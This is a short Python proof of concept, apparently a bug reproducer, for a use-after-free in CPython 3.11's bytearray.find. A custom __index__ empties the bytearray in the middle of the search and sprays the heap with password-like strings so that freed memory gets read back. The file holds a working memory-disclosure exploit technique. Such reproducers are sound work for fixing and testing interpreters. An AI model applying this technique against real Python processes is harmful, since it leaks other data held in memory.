"""A use after free in Debian's own python3 (3.11; gh-142560): bytearray.find takes the address of its bytes, and then asks its
arguments for their value, which is a call of the program's. When that empties the bytearray, what is searched has been given
back, and here somebody else's bytes lie there by then. Status 1: these were found."""
import sys


class Start:
    def __index__(self):
        searched.clear()
        others.extend(bytearray(b"somebody else's password, " * 39) for _ in range(40000))
        return 0


others = []
searched = bytearray(b"-" * 1014)
sys.exit(searched.find(b"password", Start()) >= 0)
